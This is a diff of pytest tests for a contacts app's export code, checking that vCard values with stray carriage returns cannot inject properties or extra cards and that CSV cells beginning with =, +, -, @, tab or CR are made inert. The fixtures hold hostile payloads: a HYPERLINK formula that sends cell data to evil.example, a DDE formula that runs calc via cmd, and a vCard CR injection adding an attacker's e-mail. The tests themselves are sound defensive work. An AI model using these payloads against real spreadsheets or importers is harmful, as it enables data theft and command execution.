@@ -11,6 +11,7 @@ from typing import Any
 import pytest
 from fastapi.testclient import TestClient
 
+from app.imports.export import inert_cell
 from tests.conftest import (
     Api,
     Headers,
@@ -351,6 +352,34 @@ def test_contacts_as_vcard_import_back(api: Api, headers: Headers) -> None:
     assert view(other) == view(headers)
 
 
+def test_a_lone_cr_in_a_vcard_value_does_not_split_the_card(api: Api, headers: Headers) -> None:
+    """A CR left in a value ended the content line: the text after it became a property of its
+    own, and the card came back with an e-mail the attacker chose."""
+    make_contact(
+        api.client,
+        headers,
+        name="Dana Reyes\rEMAIL:evil@attacker.example",
+        email="dana@northwind.example",
+        title="SVP\rEND:VCARD\rBEGIN:VCARD\rFN:Injected\rEMAIL:evil@attacker.example",
+        notes="Met at SHRM.\r\nLikes data.\rX-EVIL:1",
+    )
+
+    exported = api.client.get("/export/contacts.vcf", headers=headers)
+    other = api.headers("restored")
+    imported = api.client.post(
+        "/imports/contacts", headers=other, files={"file": ("c.vcf", exported.content)}
+    )
+
+    assert imported.status_code == 200, imported.text
+    assert (imported.json()["created"], imported.json()["skipped"]) == (1, 0)
+    (dana,) = get_json(api.client, "/contacts", other)["items"]
+    assert dana["email"] == "dana@northwind.example"
+    # A lone CR comes back as a line break, LF: vCard has one escape for both.
+    assert dana["name"] == "Dana Reyes\nEMAIL:evil@attacker.example"
+    assert dana["title"] == "SVP\nEND:VCARD\nBEGIN:VCARD\nFN:Injected\nEMAIL:evil@attacker.example"
+    assert dana["notes"] == "Met at SHRM.\nLikes data.\nX-EVIL:1"
+
+
 def test_contacts_as_csv(client: TestClient, headers: Headers) -> None:
     build_workspace(client, headers)
 
@@ -367,6 +396,44 @@ def test_contacts_as_csv(client: TestClient, headers: Headers) -> None:
     assert dana["Pain Points"] == "Finding the right firm to run our employee engagement survey"
     assert rows[1]["Expertise"] == "Running employee engagement surveys\nChoosing survey vendors"
     assert dana["Last Contacted On"] == date.today().isoformat()  # the article sent today
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_made_inert(
+    client: TestClient, headers: Headers
+) -> None:
+    """OWASP CSV injection: a cell starting with = + - @ gets a leading quote; values that only
+    contain them, and the JSON export, are left as they are."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1, "Click")'
+    make_contact(
+        client,
+        headers,
+        name=formula,
+        company="+1 555 0100",
+        title="-2+3",
+        field="@SUM(A1:A9)",
+        notes="a=b, c+d",
+        pain_points=["=cmd|' /C calc'!A0"],
+    )
+
+    response = client.get("/export/contacts.csv", headers=headers)
+
+    (row,) = list(csv.DictReader(io.StringIO(response.text, newline="")))
+    assert row["Name"] == "'" + formula
+    assert (row["Company"], row["Title"], row["Field"]) == ("'+1 555 0100", "'-2+3", "'@SUM(A1:A9)")
+    assert row["Pain Points"] == "'=cmd|' /C calc'!A0"
+    assert (row["Notes"], row["Tier"]) == ("a=b, c+d", "B")
+    exported = export(client, headers)["contacts"][0]
+    assert (exported["name"], exported["company"]) == (formula, "+1 555 0100")
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [("\tx", "'\tx"), ("\r=1", "'\r=1"), ("-", "'-"), ("x-1", "x-1"), ("", ""), ("'=1", "'=1")],
+)
+def test_a_cell_starting_with_tab_or_cr_is_made_inert_too(value: str, cell: str) -> None:
+    """Stored text is stripped, so tab and CR never start a cell the API writes; the rule has
+    them anyway, as OWASP lists them."""
+    assert inert_cell(value) == cell
 
 
 def test_the_longest_url_exports_and_restores(api: Api) -> None:
